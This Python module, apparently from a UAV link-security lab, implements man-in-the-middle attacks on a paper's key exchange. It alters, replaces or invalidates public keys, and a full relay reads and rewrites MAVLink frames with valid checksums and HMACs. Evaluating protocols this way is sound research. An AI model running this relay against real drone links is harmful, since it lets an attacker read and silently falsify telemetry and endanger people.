"""Attacks on the paper's key exchange: altered and replaced public keys, as in the paper, and a full relay.

The attacks on data are those of :mod:`uavlinkd.lab.mitm.attacks`, the same for both protocols.
"""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from uavlinkd.lab.evaluation import paper_protocol as paper
from uavlinkd.lab.mitm.anatomy import DatagramKind, kind_of, mavlink_frame
from uavlinkd.lab.mitm.attack import Action, Direction, Intervention, Operation, PassiveAttack, Send
from uavlinkd.protocol.kem import ffdhe_prime

_PRIME = ffdhe_prime(paper.GROUP_BITS)
ELEMENTS = {"zero": 0, "one": 1, "p-1": _PRIME - 1, "p": _PRIME, "p+1": _PRIME + 1}
_CRC_EXTRA = {0: 50, 30: 39}
"""Of HEARTBEAT and ATTITUDE, the only messages of the clients."""

Change = Callable[[bytes, Random], tuple[bytes, str]]


def tamper(public: bytes, rng: Random) -> tuple[bytes, str]:
    at = rng.randrange(len(public) - 4)
    part = bytes(byte ^ rng.randrange(1, 256) for byte in public[at : at + 4])
    return public[:at] + part + public[at + 4 :], f"bytes {at} to {at + 3} of the public key altered"


def replace(public: bytes, rng: Random) -> tuple[bytes, str]:
    return paper.PaperKey().public, "public key replaced"


def tamper_or_replace(public: bytes, rng: Random) -> tuple[bytes, str]:
    return tamper(public, rng) if rng.random() < 0.5 else replace(public, rng)


def invalid(public: bytes, rng: Random) -> tuple[bytes, str]:
    name = rng.choice(sorted(ELEMENTS))
    return ELEMENTS[name].to_bytes(paper.KEY_BYTES, "big"), f"public key is {name}"


CHANGES: dict[str, Change] = {
    "tamper-key": tamper,
    "replace-key": replace,
    "random": tamper_or_replace,
    "invalid-element": invalid,
}


class AlterKeys(PassiveAttack):
    """Changes the public keys in the paper's exchange."""

    def __init__(self, name: str, rng: Random) -> None:
        self.name = name
        self._change = CHANGES[name]
        self._rng = rng
        self._seen = 0

    def on_datagram(self, datagram: bytes, direction: Direction, now: float) -> list[Action]:
        self._seen += 1
        if not paper.is_key(datagram):
            return [Send(datagram, direction)]
        public, detail = self._change(datagram[1:], self._rng)
        note = Intervention(
            now, self.name, Operation.ALTERED, direction, self._seen, kind_of(datagram), len(datagram), detail
        )
        return [Send(datagram[:1] + public, direction), note]


class PaperRelay(PassiveAttack):
    """A full relay: a key exchange with each side, a new HMAC for each frame.

    By default it alters every second frame. The drones cannot detect it, because each shares its key with the
    attacker.

    Args:
        change: returns what to send in place of each frame.
    """

    name = "two-sided-relay"

    def __init__(self, change: Callable[[bytes], bytes] | None = None) -> None:
        self._change = change or self._alter_every_second
        self._waiting: dict[Direction, paper.PaperKey] = {}
        self._keys: dict[str, list[bytes]] = {}
        """The keys shared with each peer, the newest first."""
        self.exchanges = 0
        self.read = 0
        self.altered = 0

    def on_datagram(self, datagram: bytes, direction: Direction, now: float) -> list[Action]:
        """Answer a key in place of the other side; open, alter and seal data."""
        if paper.is_key(datagram):
            return self._exchange(datagram[0], datagram[1:], direction, now)
        if paper.is_data(datagram):
            return self._pass_on(datagram, direction, now)
        return [Send(datagram, direction)]

    def _exchange(self, kind: int, public: bytes, direction: Direction, now: float) -> list[Action]:
        own = paper.PaperKey() if kind == paper.HELLO else self._waiting.pop(direction, None)
        if own is None:
            return []
        try:
            key = own.mac_key(public)
        except ValueError:
            return []
        self._keys[direction.sender] = [key, *self._keys.get(direction.sender, [])[:1]]
        self.exchanges += 1
        if kind == paper.ANSWER:
            return [self._note(direction, now, "keys exchanged with the responder", b"\2")]
        other = self._waiting[direction.reverse] = paper.PaperKey()
        return [
            Send(bytes((paper.ANSWER,)) + own.public, direction.reverse),
            Send(bytes((paper.HELLO,)) + other.public, direction),
            self._note(direction, now, "keys exchanged with the initiator", b"\1"),
        ]

    def _pass_on(self, datagram: bytes, direction: Direction, now: float) -> list[Action]:
        ours = self._keys.get(direction.receiver)
        opened = [
            frame
            for key in self._keys.get(direction.sender, [])
            if (frame := paper.unseal(key, datagram)) is not None
        ]
        if not opened:
            return [Send(datagram, direction)]  # from before the attack
        if not ours:
            return []  # there is no key with the receiver yet, so the frame is lost
        self.read += 1
        frame = self._change(opened[0])
        is_altered = frame != opened[0]
        self.altered += is_altered
        size = paper.header_bytes(datagram)
        number = int.from_bytes(datagram[3:size], "big")
        note = self._note(direction, now, "frame altered" if is_altered else "frame read", datagram)
        return [Send(paper.seal(ours[0], number, frame), direction), note]

    def _alter_every_second(self, frame: bytes) -> bytes:
        return _altered(frame) if self.read % 2 else frame

    def _note(self, direction: Direction, now: float, detail: str, datagram: bytes) -> Intervention:
        kind = kind_of(datagram)
        number = 0 if kind is not DatagramKind.ENVELOPE else self.read
        return Intervention(now, self.name, Operation.ALTERED, direction, number, kind, len(datagram), detail)


def _altered(frame: bytes) -> bytes:
    """The frame with another value of its last field, and a valid checksum."""
    message_id = int.from_bytes(frame[7:10], "little")
    payload = bytearray(frame[10 : 10 + frame[1]])
    payload[-2] ^= 0x40
    return mavlink_frame(message_id, bytes(payload), _CRC_EXTRA[message_id], frame[5], frame[4])
